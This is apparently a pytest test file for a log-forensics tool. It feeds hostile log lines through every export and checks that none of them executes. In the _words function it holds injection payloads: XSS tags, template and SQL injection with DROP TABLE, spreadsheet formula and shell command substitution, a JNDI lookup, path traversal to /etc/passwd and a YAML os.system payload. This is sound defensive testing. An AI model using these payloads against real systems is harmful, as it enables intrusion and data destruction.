"""What an intruder writes into a log goes through every stage and every output, and is only ever text."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.exports.published import faults_of
from tests.journeys.command import Told, must
from tests.journeys.shop import AS_OF, WALKED, write_shop

pytestmark = pytest.mark.slow
_FORMS = ("ocsf", "timesketch", "stix")
_KEPT = ("access.log", "postgresql.log")
#: Control characters but the line feed, and the marks that turn the direction of text.
_UNSHOWABLE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _words(canary: Path) -> dict[str, bytes]:
    """Return what the intruder says; whoever obeys makes the canary."""
    touch = str(canary).encode()
    return {
        "markup": b"<script>alert(1)</script><img src=x onerror=alert(2)>'><svg onload=alert(3)>",
        "template": b"{{7*7}}{% include '/etc/passwd' %}${7*7}#{7*7}",
        "typst": b"#read(%b) #let x = 1; $ x $ \\u{41} *bold* @cite" % touch,
        "rich": b"[bold red]x[/bold red][link=file:///etc/passwd]y[/link]",
        "escapes": b"\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b[8m",
        "controls": b"a\rb\tc\x08d\x7f\xc2\x85\xc2\x9b31m",
        "formula": b"=cmd|'/c touch %b'!A1" % touch,
        "plus": b"+1+1 -2 @SUM(A1)",
        "sql": b"'; COPY (SELECT 1) TO '%b'; DROP TABLE events; DROP VIEW people; --" % touch,
        "like": b"%' OR 1=1 -- $1 ? :name {key} %s %(x)s {0}",
        "shell": b"$(touch %b)`touch %b`;touch %b|touch %b" % (touch, touch, touch, touch),
        "direction": "\u202egnp.exe\u2066x\u2069\u200f".encode(),
        "nul": b"a\x00b\x00",
        "bytes": b"\xff\xfe\xc3\x28\xed\xa0\x80\xf4\x90\x80\x80",
        "jndi": b"${jndi:ldap://203.0.113.9/a}",
        "path": b"../../../../etc/passwd;../%2e%2e/",
        "yaml": b"!!python/object/apply:os.system ['touch %b']" % touch,
    }


@dataclass(frozen=True)
class Run:
    """A run over a log full of hostile words."""

    words: dict[str, bytes]
    canary: Path
    folder: Path
    told: list[Told]

    def rows(self, name: str) -> list[list[str]]:
        """Return the cells of an exported CSV file as they stand there."""
        text = (self.folder / "answer" / name).read_bytes().decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A shop in whose log the intruder says everything in turn, and everything at once as its agent."""
    folder = tmp_path_factory.mktemp("hostile")
    words = _words(folder / "canary")
    write_shop(folder, (b" ".join(words.values()),), tuple(words.values()))
    return Run(words, folder / "canary", folder, _tell(folder))


def _tell(folder: Path) -> list[Told]:
    case = folder / "case"
    return [
        must("case", "new", case, "--zone", "Asia/Tokyo", "--datamap", folder / "map.yaml"),
        must("snapshot", "add", case, folder / "dump", "--as-of", AS_OF, "--system", "shop"),
        must("evidence", "add", case, folder / "logs"),
        must("investigate", case, "--lang", "en"),
        must("explain", case, "--person", WALKED[0]),
        must("export", case, "--to", folder / "answer"),
        *(must("export", case, "--to", folder / "feeds", "--format", form) for form in _FORMS),
        must("verify", case),
    ]


def test_the_same_records_are_reached_whatever_is_said(run: Run) -> None:
    header, *rows = run.rows("persons.csv")
    assert header[2] == "key"
    assert {int(row[2]) for row in rows if row[5] == "confirmed"} == set(WALKED)
    assert len(rows) == 80


def test_every_hostile_line_is_named(run: Run) -> None:
    _, *rows = run.rows("intrusion.csv")
    walked = [row for row in rows if row[0] == "access.log" and int(row[1]) > 300]
    assert [int(row[1]) for row in walked] == list(range(301, 301 + len(WALKED)))


def test_nothing_that_was_said_is_done(run: Run) -> None:
    assert not run.canary.exists()
    assert sorted(path.name for path in run.folder.iterdir()) == [
        "answer", "case", "dump", "feeds", "logs", "map.yaml",
    ]  # fmt: skip


def test_the_terminal_gets_plain_text_only(run: Run) -> None:
    for told in run.told:
        assert not _UNSHOWABLE.search(told.out), told.out
        assert not _UNSHOWABLE.search(told.err), told.err
        assert "Traceback" not in told.err


def test_no_spreadsheet_runs_a_cell(run: Run) -> None:
    names = [path.name for path in (run.folder / "answer").glob("*.csv")]
    assert len(names) == 12
    for name in names:
        header, *rows = run.rows(name)
        assert all(len(row) == len(header) for row in rows)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]
        assert not [cell for cell in cells if _UNSHOWABLE.search(cell)]


def test_what_was_said_did_reach_the_outputs(run: Run) -> None:
    ((_, title, *_),) = run.rows("paths.csv")[1:]
    assert "owned" in title
    for page in run.folder.rglob("report.html"):
        assert "owned" in page.read_text(encoding="utf-8")


def test_other_tools_get_every_event_as_plain_data(run: Run) -> None:
    feeds = {path.name: path.read_text(encoding="utf-8") for path in (run.folder / "feeds").iterdir()}
    assert not {name for name, text in feeds.items() if _UNSHOWABLE.search(re.sub("[\t\r]", "", text))}
    cells = [cell for row in run.rows("../feeds/timesketch.csv") for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]
    read = {
        name: [json.loads(line) for line in feeds[name].splitlines()] for name in feeds if "jsonl" in name
    }
    assert len(read["events.ocsf.jsonl"]) == len(read["timesketch.jsonl"]) > 600
    assert [fault for event in read["events.ocsf.jsonl"][::7] for fault in faults_of(event)] == []
    assert "\\u001b]0;owned" in feeds["events.ocsf.jsonl"]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.acting += [name for name, _ in attrs if name.startswith("on")]


def test_no_page_acts_on_what_was_said(run: Run) -> None:
    for page in run.folder.rglob("report.html"):
        text = page.read_text(encoding="utf-8")
        tags = _Tags()
        tags.feed(text)
        assert {"table", "svg", "h1"} <= tags.seen
        assert not tags.seen & {"script", "img", "iframe", "object", "embed", "link", "base", "form", "a"}
        assert tags.acting == []
        assert not _UNSHOWABLE.search(text)


def test_no_line_is_lost(run: Run) -> None:
    summary = json.loads((run.folder / "answer" / "summary.json").read_bytes())
    counted = sum((run.folder / "logs" / name).read_bytes().count(b"\n") for name in _KEPT)
    assert summary["lines"]["read"]["value"] + summary["lines"]["not_read"]["value"] == counted
    assert summary["lines"]["not_read"]["value"] == 0


def test_the_note_shows_the_raw_line_as_codes(run: Run) -> None:
    note = run.told[4].out
    assert "access.log:301" in note
    assert "\\u001b]0;owned" in note
